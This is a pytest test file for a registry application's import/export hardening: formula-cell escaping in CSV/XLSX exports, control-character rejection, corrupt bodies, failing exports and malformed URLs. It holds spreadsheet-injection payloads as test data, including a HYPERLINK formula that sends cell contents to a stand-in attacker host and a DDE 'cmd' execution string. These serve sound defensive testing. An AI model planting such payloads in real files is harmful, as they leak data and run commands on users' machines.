"""Hostile input: formula cells in exports, control characters, unreadable bodies, failing exports and batches."""

import asyncio
import codecs
import glob
import io
import json
import os
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pydantic_core
import pytest
import uvicorn
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import create_engine, text

from tests.api.factories import import_records, org_unit, person
from tests.conftest import Registry, uniq
from tests.live import free_port

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
STARTS = ["=", "+", "-", "@", "'"]  # tab and CR are refused at input: see test_legacy_tab_and_cr_cells_are_escaped
FORMULA = '=HYPERLINK("http://evil.example/?"&D2,"Bấm vào đây")'


def _post(registry: Registry, kind: str, body: bytes, ctype: str) -> httpx.Response:
    return registry.client.post(f"/api/v1/imports/{kind}", content=body, headers=registry.headers() | {"Content-Type": ctype})


def _export(registry: Registry, kind: str, fmt: str) -> bytes:
    r = registry.client.get(f"/api/v1/exports/{kind}", params={"format": fmt}, headers=registry.headers())
    assert r.status_code == 200, r.text
    return r.content


def _hostile(registry: Registry) -> str:
    """An org unit, statistics and persons whose texts begin with each formula character; the unit's code."""
    unit = uniq("HX")
    import_records(registry, "org-units", [org_unit(unit, name=f"{FORMULA} Xã")])
    stats = [{"code": "population", "org_unit": unit, "period": str(2000 + i), "value": -5 - i, "source": f"{c}Cục {i}"}
             for i, c in enumerate(STARTS)]
    report = registry.import_lines("statistics", [json.dumps(s, ensure_ascii=False) for s in stats])
    assert report["failed"] == 0, report
    people = [person(f"{unit}-{i}", unit, full_name=f"{c}Nguyễn {i}",
                     degrees=[{"level": "bachelor", "field": f"{c}SUM(1,2)", "awarded_on": "2007-06-30"}],
                     trainings=[{"course": f"{c}cmd|' /C calc'!A0", "hours": 40, "completed_on": "2019-01-02"}])
              for i, c in enumerate(STARTS)]
    people.append(person(f"{unit}-x", unit, full_name=FORMULA))
    report = import_records(registry, "persons", people)
    assert report["failed"] == 0, report
    return unit


def _xlsx_texts(body: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


class TestFormulaCells:
    def test_csv_and_xlsx_cells_are_escaped_and_typed_as_text(self, fresh_registry: Any) -> None:
        registry = fresh_registry()
        _hostile(registry)
        for kind in ("persons", "org-units", "statistics"):
            rows = list(__import__("csv").reader(io.StringIO(_export(registry, kind, "csv").decode())))
            cells = [c for row in rows[1:] for c in row]
            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], kind
            assert any(c.startswith("'=") for c in cells), kind
            cells_x = _xlsx_texts(_export(registry, kind, "xlsx"))
            assert [c.coordinate for c in cells_x if c.data_type == "f"] == [], kind
            strings = [c.value for c in cells_x if c.data_type == "s"]
            assert not [v for v in strings if v[:1] in ("=", "+", "@")], kind
            assert any(v.startswith("'=") for v in strings), kind
        persons = [c for row in __import__("csv").reader(io.StringIO(_export(registry, "persons", "csv").decode()))
                   for c in row]
        for c in STARTS:
            assert f"'{c}Nguyễn {STARTS.index(c)}" in persons and f"'{c}SUM(1,2)" in persons
            assert f"'{c}cmd|' /C calc'!A0" in persons
        stats = _export(registry, "statistics", "csv").decode()
        assert ",-5," in stats and "'-5" not in stats  # negative numbers stay numbers

    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_export_import_export_is_byte_identical(self, fresh_registry: Any, fmt: str) -> None:
        source = fresh_registry()
        _hostile(source)
        original = {k: _export(source, k, "jsonl") for k in ("org-units", "statistics", "persons")}
        sheets = {k: _export(source, k, fmt) for k in original}
        target = fresh_registry()
        for kind in ("org-units", "statistics", "persons"):
            r = _post(target, kind, sheets[kind], "text/csv" if fmt == "csv" else XLSX)
            assert r.status_code == 200 and r.json()["failed"] == 0, r.text
        for kind, body in original.items():
            assert _export(target, kind, "jsonl") == body, kind
        if fmt == "csv":
            assert _export(target, "persons", "csv") == sheets["persons"]

    def test_legacy_tab_and_cr_cells_are_escaped(self, fresh_registry: Any) -> None:
        registry = fresh_registry()  # its own: other tests re-import the shared registry's export
        unit = uniq("HT")
        import_records(registry, "org-units", [org_unit(unit)])
        import_records(registry, "persons", [person(f"{unit}-{s}", unit) for s in ("t", "r", "b")])
        engine = create_engine(registry.url)  # written before control characters were refused at input
        with engine.begin() as conn:
            for suffix, start in (("t", "\t"), ("r", "\r"), ("b", "\x07")):
                conn.execute(text("UPDATE person_version SET full_name = :n WHERE person_id = "
                                  "(SELECT id FROM person WHERE external_id = :e)"),
                             {"n": f"{start}=1+1", "e": f"{unit}-{suffix}"})
        engine.dispose()
        body = _export(registry, "persons", "csv").decode()
        assert ",'\t=1+1," in body and ',"\'\r=1+1",' in body
        values = [c.value for c in _xlsx_texts(_export(registry, "persons", "xlsx")) if c.data_type == "s"]
        # (XML reads a CR back as a line feed)
        assert {v[1] for v in values if v[:1] == "'" and v.endswith("=1+1")} == {"\t", "\n"}
        assert "\ufffd=1+1" in values  # a control character XML cannot carry: the workbook is still whole
        # re-imported, the restored value is refused (a control character), never stored as something else
        csv_rows = [line for line in body.split("\r\n") if line.startswith(f"{unit}-t,")]
        report = _post(registry, "persons", (body.split("\r\n")[0] + "\r\n" + "\r\n".join(csv_rows) + "\r\n").encode(),
                       "text/csv").json()
        assert {e["error"] for e in report["errors"]} == {"control_character"}, report


class TestControlCharacters:
    def test_import_line_api_and_export(self, fresh_registry: Any) -> None:
        registry = fresh_registry()
        unit = uniq("HC")
        import_records(registry, "org-units", [org_unit(unit)])
        lines = [json.dumps(person(f"{unit}-{i}", unit, full_name=name)) for i, name in
                 enumerate(["Lê Văn A", "Bell\u0007Name", "Nul\u0000Name", "Lò Thị B", "C1\u0085x"])]
        report = registry.import_lines("persons", lines)
        assert report["created"] == 2, report
        bad = {e["line"]: e for e in report["errors"]}
        assert sorted(bad) == [2, 3, 5]
        assert all(e["field"] == "full_name" and e["error"] == "control_character" for e in bad.values()), bad
        assert "U+0007" in bad[2]["message"] and "U+0000" in bad[3]["message"]
        r = registry.client.post("/api/v1/persons", json=person(f"{unit}-p", unit, full_name="Tab\tName"),
                                 headers=registry.headers())
        assert r.status_code == 422 and "full_name" in r.text, r.text
        rec = person(f"{unit}-0", unit, full_name="Lê\u0007")
        r = registry.client.put(f"/api/v1/persons/{unit}-0", json=rec, headers=registry.headers())
        assert r.status_code == 422 and "full_name" in r.text, r.text
        book = load_workbook(io.BytesIO(_export(registry, "persons", "xlsx")))
        names = [row[1] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
        assert sorted(set(names)) == ["Lê Văn A", "Lò Thị B"]

    def test_a_write_during_an_export_is_not_blocked(self, registry: Registry) -> None:
        from app.api import bulk
        from app.services.context import Actor

        unit = uniq("HL")
        import_records(registry, "org-units", [org_unit(unit)])
        import_records(registry, "persons", [person(f"{unit}-{i}", unit) for i in range(3)])
        response = bulk.export_records(kind=bulk.Kind.persons, actor=Actor("hostile-test", "admin"), known_at=None,
                                       format=bulk.Format.jsonl, lang="en")
        chunks = response.body_iterator
        first = asyncio.run(chunks.__anext__())  # type: ignore[union-attr]
        assert first
        done: list[int] = []
        writer = threading.Thread(target=lambda: done.append(registry.client.post(
            "/api/v1/persons", json=person(f"{unit}-w", unit), headers=registry.headers()).status_code))
        writer.start()
        writer.join(timeout=15)
        assert done == [201], "a write waited for a streaming export"
        asyncio.run(chunks.aclose())  # type: ignore[union-attr]


class TestImportsReportEveryLine:
    def test_nested_nul_and_surrogate_lines(self, fresh_registry: Any) -> None:
        registry = fresh_registry()
        unit = uniq("HN")
        import_records(registry, "org-units", [org_unit(unit)])
        good = [json.dumps(person(f"{unit}-{i}", unit)) for i in range(3)]
        nul = json.dumps(person(f"{unit}-n", unit, full_name="A\u0000B"))
        surrogate = json.dumps(person(f"{unit}-s", unit, full_name="A\ud800B"))
        report = registry.import_lines("persons", [good[0], "[" * 100_000, nul, good[1], surrogate, good[2]])
        assert report["created"] == 3, report
        codes = {e["line"]: e["error"] for e in report["errors"]}
        assert codes == {2: "nested_too_deep", 3: "control_character", 5: "control_character"}, report
        ids = {json.loads(line)["external_id"] for line in registry.export("persons").splitlines()}
        assert ids == {f"{unit}-{i}" for i in range(3)}

    def test_a_batch_that_fails_as_a_whole_is_written_line_by_line(self, fresh_registry: Any,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
        from sqlalchemy.exc import OperationalError

        from app.services import person_batch

        registry = fresh_registry()
        unit = uniq("HB")
        import_records(registry, "org-units", [org_unit(unit)])
        real = person_batch.write

        def write(session: Any, actor: Any, items: list[Any], *args: Any) -> Any:
            if any(item.record.full_name == "Boom" for item in items):
                raise OperationalError("INSERT", {}, Exception("disk I/O error"))
            return real(session, actor, items, *args)

        monkeypatch.setattr(person_batch, "write", write)
        lines = [json.dumps(person(f"{unit}-{i}", unit, full_name="Boom" if i == 1 else "Lê Thị C")) for i in range(4)]
        report = registry.import_lines("persons", lines)
        assert (report["created"], report["failed"], report["lines"]) == (3, 1, 4), report
        assert report["errors"] == [{"line": 2, "external_id": f"{unit}-1", "field": None, "error": "not_written",
                                     "message": "not written: the database refused it"}]
        ids = {json.loads(line)["external_id"] for line in registry.export("persons").splitlines()}
        assert ids == {f"{unit}-0", f"{unit}-2", f"{unit}-3"}


class TestUnreadableBodies:
    def test_corrupt_xlsx_utf16_csv_and_huge_cell(self, fresh_registry: Any) -> None:
        registry = fresh_registry()
        unit = uniq("HU")
        import_records(registry, "org-units", [org_unit(unit)])
        header = "external_id,full_name,birth_date,gender,list,org_unit,category,start\n"
        row = f"{unit}-1,Lê Văn A,1980-01-01,male,employments,{unit},cong_chuc,2010-01-01\n"
        cases = [
            (b"PK\x03\x04 not really a zip" + bytes(range(256)), XLSX, "invalid_xlsx"),
            (codecs.BOM_UTF16_LE + (header + row).encode("utf-16-le"), "text/csv", "invalid_encoding"),
            ((header + row + f"{unit}-2,{'A' * 128 * 1024 + 'B'},1980-01-01,male,,,,\n").encode(), "text/csv",
             "cell_too_long"),
        ]
        for body, ctype, code in cases:
            r = _post(registry, "persons", body, ctype)
            assert r.status_code == 422, r.text
            assert r.json()["code"] == code, r.text
        assert registry.export("persons") == ""


@contextmanager
def _served(registry: Registry) -> Iterator[str]:
    """The registry's app behind a real uvicorn (in this process, so monkeypatches apply)."""
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(registry.client.app, host="127.0.0.1", port=port, log_level="critical"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)


class TestFailingExport:
    def test_a_failure_part_way_is_never_a_clean_200(self, fresh_registry: Any, monkeypatch: pytest.MonkeyPatch,
                                                      tmp_path: Path) -> None:
        from app.services import exports

        registry = fresh_registry()
        unit = uniq("HE")
        import_records(registry, "org-units", [org_unit(unit)])
        import_records(registry, "persons", [person(f"{unit}-{i}", unit) for i in range(4)])
        real, calls = exports.build, []

        def build(*args: Any, **kwargs: Any) -> Any:
            calls.append(1)
            if len(calls) % 3 == 2:  # the second batch of each export
                raise RuntimeError("simulated failure")
            return real(*args, **kwargs)

        monkeypatch.setattr(exports, "CHUNK", 1)
        monkeypatch.setattr(exports, "build", build)
        # openpyxl's files in a directory of this test's (another pytest worker's export is not counted here)
        monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
        own = str(tmp_path)
        with _served(registry) as base:
            for fmt in ("jsonl", "csv", "xlsx"):
                calls.clear()
                try:
                    r = httpx.get(f"{base}/api/v1/exports/persons", params={"format": fmt}, headers=registry.headers(),
                                  timeout=30)
                except httpx.HTTPError:
                    continue  # the stream was aborted: the client cannot take it for a complete file
                if fmt == "xlsx":
                    assert r.status_code >= 500, (r.status_code, len(r.content))
                    continue
                last = r.text.rstrip("\r\n").rsplit("\n", 1)[-1]
                assert "export_failed" in last and "incomplete" in last, (fmt, r.text[-300:])
        monkeypatch.undo()
        assert len(registry.export("persons").splitlines()) == 4
        # the failed XLSX's rows, written by openpyxl to a temporary file of its own, are not left on the disk
        assert glob.glob(os.path.join(own, "openpyxl.*")) == []


class TestReportCells:
    def test_dashboard_xlsx_text_is_never_a_formula(self) -> None:
        from openpyxl import Workbook

        from app.web import xlsx

        sheet = Workbook().active
        assert sheet is not None
        texts = [f"{c}HYPERLINK(1)" for c in ("=", "+", "-", "@", "\t", "\r", "'")]
        for col, value in enumerate([*texts, "-0.5", "Xã Tham Đôn"], start=1):
            xlsx.put(sheet, 1, col, value)
        xlsx.put(sheet, 2, 1, -0.5)
        cells = list(sheet.iter_rows(min_row=1, max_row=1))[0]
        assert [c.data_type for c in cells] == ["s"] * 9
        assert [c.value for c in cells] == [f"'{t}" for t in texts] + ["-0.5", "Xã Tham Đôn"]
        assert (sheet.cell(2, 1).value, sheet.cell(2, 1).data_type) == (-0.5, "n")
        body = io.BytesIO()
        sheet.parent.save(body)
        reread = load_workbook(io.BytesIO(body.getvalue())).active
        assert reread is not None and all(c.data_type == "s" for c in next(reread.iter_rows(max_row=1)))

    @pytest.mark.parametrize("kind", ["org-units", "persons", "statistics"])
    def test_templates_are_typed_text(self, registry: Registry, kind: str) -> None:
        r = registry.client.get(f"/api/v1/templates/{kind}", params={"format": "xlsx"}, headers=registry.headers())
        assert r.status_code == 200
        assert [c.coordinate for c in _xlsx_texts(r.content) if c.data_type == "f"] == []


class TestDefinitionBodies:
    """Indicator definitions are not schemas of ours: their texts and keys are checked on their own."""

    DEFINITION = {"names": {"vi": "Tỷ lệ nữ lãnh đạo cấp phòng", "en": "Women among office leaders"},
                  "source": {"doc": "XX", "clause": "II.1"}, "source_kind": "registry", "kind": "ratio",
                  "population": {"anchors": [{"subject": "position", "where": {"field": "position.rank",
                                                                                 "in": ["office_deputy", "office_head"]}}]},
                  "share": {"field": "person.gender", "eq": "female"}, "target": {"band": [0.3, None]},
                  "deadline": "2030-12-31"}

    @pytest.mark.parametrize(("spoil", "field"), [
        (lambda d: d["names"].update(vi="Tỷ lệ\u0007 nữ"), "names.vi"),
        (lambda d: d["population"]["anchors"][0]["where"]["in"].append("office\u0000head"), "population.anchors[0].where.in[2]"),
        (lambda d: d["source"].update({"clause\u001b": "1"}), "source.clause\u001b"),
    ])
    def test_a_control_character_in_a_definition_is_refused_and_nothing_published(
            self, registry: Registry, spoil: Any, field: str) -> None:
        code = f"XX-2030-{uniq('CC')}"
        definition = json.loads(json.dumps(self.DEFINITION)) | {"id": code}
        spoil(definition)
        for r in (registry.client.post("/api/v1/indicators", json=definition, headers=registry.headers()),
                  registry.client.put(f"/api/v1/indicators/{code}", json=definition, headers=registry.headers())):
            assert (r.status_code, r.json()["code"]) == (422, "control_character"), r.text
            assert [e["field"] for e in r.json()["errors"]] == [field]
        assert registry.client.get(f"/api/v1/indicators/{code}", headers=registry.headers()).status_code == 404
        clean = json.loads(json.dumps(self.DEFINITION)) | {"id": code}
        assert registry.client.post("/api/v1/indicators", json=clean, headers=registry.headers()).status_code == 201


# Any JSON value: the texts drawn from every code point class a line can carry (controls, C1, surrogates, Vietnamese)
_TEXTS = st.text(max_size=12) | st.sampled_from(
    ["Nguyễn", "\u0007", "\x85", "\ud800", "\t", "\\", '"', "\u2028", "\x7f", "\x1f", " "])
_JSON = st.recursive(st.none() | st.booleans() | st.integers(-(2**53), 2**53) | _TEXTS,
                     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_TEXTS, inner, max_size=4), max_leaves=12)


@given(value=_JSON, ascii_only=st.booleans())
@settings(max_examples=400, deadline=None)
def test_the_fast_path_of_a_line_never_passes_a_control_character(value: Any, ascii_only: bool) -> None:
    """A line the import does not walk (`imports._plain`) holds no control character in any key or value."""
    from app.services import imports

    try:
        text_ = json.dumps(value, ensure_ascii=ascii_only)
        text_.encode("utf-8")  # a line is decoded UTF-8: a lone surrogate reaches it only as an escape
    except UnicodeEncodeError:
        return
    parsed = json.loads(text_)
    try:  # the schemas parse the line with pydantic's parser: the same values, or the line is refused as not JSON
        assert pydantic_core.from_json(text_) == parsed
    except ValueError:
        assert "\\u" in text_, text_  # only a lone surrogate's escape, which json reads and pydantic refuses
    found = imports._control(parsed, "")
    if found is not None:
        assert not imports._plain(text_), (text_, found)


@pytest.mark.parametrize("target", [
    "/api/v1/persons/A%00B", "/api/v1/persons/A%0BB", "/api/v1/persons/A%2500B",  # in the path; escaped twice
    "/api/v1/persons?q=%1B%5B31m", "/api/v1/persons?q=x%01", "/api/v1/persons/A%3FB?q=%07",  # in the query
    "/api/v1/persons/A%23%00", "/nowhere/%01", "/dashboard/persons/%0B",
])
def test_a_url_with_control_characters_is_refused_before_anything_runs(registry: Registry, target: str) -> None:
    """Controls but tab, LF and CR (app.main.CONTROL), in the path (escaped once or twice: the server decodes it once)
    or in the query."""
    r = registry.client.get(target, headers=registry.headers())
    assert r.status_code == 400, (target, r.status_code, r.text[:200])
    assert r.headers["x-request-id"] and r.headers["x-content-type-options"] == "nosniff"  # the headers of every answer
    if target.startswith("/api/"):
        assert r.json()["code"] == "invalid_characters" and r.headers["cache-control"] == "no-store"


@pytest.mark.parametrize("target", [
    "/api/v1/persons/A%3FB", "/api/v1/persons/A%23B", "/api/v1/persons/A%5CB", "/api/v1/persons?q=%3F%23%25",
    "/api/v1/persons?q=x%2501",  # the literal text x%01: a query is decoded once
    "/api/v1/persons?q=Nguy%E1%BB%85n",
])
def test_a_url_with_escaped_delimiters_and_no_control_character_is_answered(registry: Registry, target: str) -> None:
    r = registry.client.get(target, headers=registry.headers())
    assert r.status_code in (200, 404), (target, r.status_code, r.text[:200])


def test_hsts_only_over_https(registry: Registry) -> None:
    """Strict-Transport-Security is sent on an answer over HTTPS (the scope's scheme), never over plain HTTP, where a
    browser would ignore it."""
    from fastapi.testclient import TestClient

    over_tls = TestClient(registry.client.app, base_url="https://testserver")
    secure = over_tls.get("/api/v1/persons", headers=registry.headers())
    plain = registry.client.get("/api/v1/persons", headers=registry.headers())
    assert secure.status_code == plain.status_code == 200
    assert secure.headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"
    assert "strict-transport-security" not in plain.headers


def _raw_get(registry: Registry, path: str, query_string: bytes) -> tuple[int, bytes]:
    """The application called as a server calls it, with a scope TestClient cannot make (a raw `#` in the query
    string, which h11 accepts and uvicorn passes on; bytes that are not UTF-8, which another server may pass)."""
    import asyncio

    from tests.conftest import BOOT

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET", "scheme": "http",
             "path": path, "raw_path": path.encode(), "root_path": "", "query_string": query_string,
             "headers": [(b"host", b"testserver"), (b"authorization", f"Bearer {BOOT}".encode())],
             "client": ("127.0.0.1", 40000), "server": ("testserver", 80)}
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    asyncio.run(registry.client.app(scope, receive, send))
    return sent[0]["status"], b"".join(m.get("body", b"") for m in sent[1:])


def test_a_control_character_after_a_raw_hash_in_the_query_is_refused(registry: Registry) -> None:
    """`?q=a#%01`: the query string the application gets holds `#%01` (Starlette's parser gives `q="a#\\x01"`); the
    check used to read `request.url.query`, which ends at the `#`, and let it through."""
    status, body = _raw_get(registry, "/api/v1/persons", b"q=a#%01")
    assert status == 400 and json.loads(body)["code"] == "invalid_characters", body


@pytest.mark.parametrize("path", ["/api/v1/persons/A%01", "/nowhere", "/api/v1/persons/NO-SUCH-PERSON"])
def test_query_bytes_that_are_not_utf8_get_an_answer_not_a_500(registry: Registry, path: str) -> None:
    status, body = _raw_get(registry, path, b"q=\xff\xfe")
    assert status in (400, 404), (status, body[:300])
    assert json.loads(body)["instance"] == path
